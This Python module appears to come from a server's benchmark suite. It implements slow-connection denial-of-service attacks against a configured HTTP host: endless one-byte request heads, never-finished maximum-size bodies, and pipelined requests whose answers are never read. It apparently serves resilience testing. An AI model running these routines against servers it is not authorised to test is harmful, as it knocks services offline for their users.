"""Attacks with many HTTP/1.1 connections that send slowly or never read their answers."""

import socket
import time
from collections import Counter
from typing import Final

from scripts.benchmarks.attacks.aim import HOST, AttackTarget, Outcome, Run, Timer

HALF_OPEN: Final = 1100  # more than Linux's default limit on open files
SLOW: Final = 200
UNREAD: Final = 50
SLOW_PIECE: Final = 16384  # bytes of a body per send
PAUSE_SECONDS: Final = 0.05
SMALL_BUFFER: Final = 4096  # bytes; the receive buffer of a client that does not read
PIPELINED: Final = 100


class ConnectionGroup:
    """Connections that all send the same data and never wait for the server."""

    def __init__(self, target: AttackTarget, *, count: int, receive_buffer: int | None = None) -> None:
        self._target = target
        self._open: dict[socket.socket, bytes] = {}  # connection -> data that it could not send yet
        self._count = count
        self._receive_buffer = receive_buffer

    def connect(self, timer: Timer) -> None:
        """Open the connections, as many as the server accepts before the time is over."""
        while len(self._open) < self._count and timer.is_running():
            try:
                self._open[self._open_connection()] = b""
            except OSError:
                return

    def _open_connection(self) -> socket.socket:
        connection = socket.socket()
        try:
            connection.settimeout(self._target.seconds)
            if self._receive_buffer:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self._receive_buffer)
            connection.connect((HOST, self._target.port))
        except OSError:
            connection.close()
            raise
        connection.settimeout(0)
        return connection

    def send(self, data: bytes) -> None:
        """Send as much as possible without waiting; drop the connections that the server has closed.

        A connection with unsent data sends the rest of it instead of `data`, so that no request is truncated.
        """
        after = {each: send_some(each, left or data) for each, left in self._open.items()}
        self._open = {each: left for each, left in after.items() if left is not None}

    def end(self) -> Outcome:
        """Close all connections. Return the numbers of open ones, and of those that the server refused or closed."""
        outcome = Counter({"open": len(self._open), "closed": self._count - len(self._open)})
        for connection in self._open:
            connection.close()
        return outcome


def send_some(connection: socket.socket, data: bytes) -> bytes | None:
    """Send as much as possible without waiting; return the rest, or None if the server has closed the connection."""
    try:
        return data[connection.send(data) :]
    except BlockingIOError:
        return data
    except OSError:
        connection.close()
        return None


def half_open(target: AttackTarget) -> Run:
    """Prepare request heads that never end, sent one byte at a time."""
    start = f"POST {target.path} HTTP/1.1\r\nhost: {HOST}:{target.port}\r\nx-".encode()
    return _send_slowly(target, count=HALF_OPEN, start=start, piece=b"a")


def slow_bodies(target: AttackTarget) -> Run:
    """Prepare bodies of the largest size that never end."""
    return _send_slowly(
        target, count=SLOW, start=target.post_head(target.limit), piece=b" " * min(SLOW_PIECE, target.limit // 1000 + 1)
    )


def unread_answers(target: AttackTarget) -> Run:
    """Prepare pipelined requests without a pause on each connection. No answer is read."""
    requests = f"GET /openapi.json HTTP/1.1\r\nhost: {HOST}:{target.port}\r\n\r\n".encode() * PIPELINED
    return _send_slowly(target, count=UNREAD, start=requests, piece=requests, receive_buffer=SMALL_BUFFER)


def _send_slowly(
    target: AttackTarget, *, count: int, start: bytes, piece: bytes, receive_buffer: int | None = None
) -> Run:
    """Connect, send `start`, and then send a piece every 50 ms until the time is over."""

    def run() -> Outcome:
        timer, group = Timer(target.seconds), ConnectionGroup(target, count=count, receive_buffer=receive_buffer)
        group.connect(timer)
        group.send(start)
        while timer.is_running():
            time.sleep(PAUSE_SECONDS)
            group.send(piece)
        return group.end()

    return run
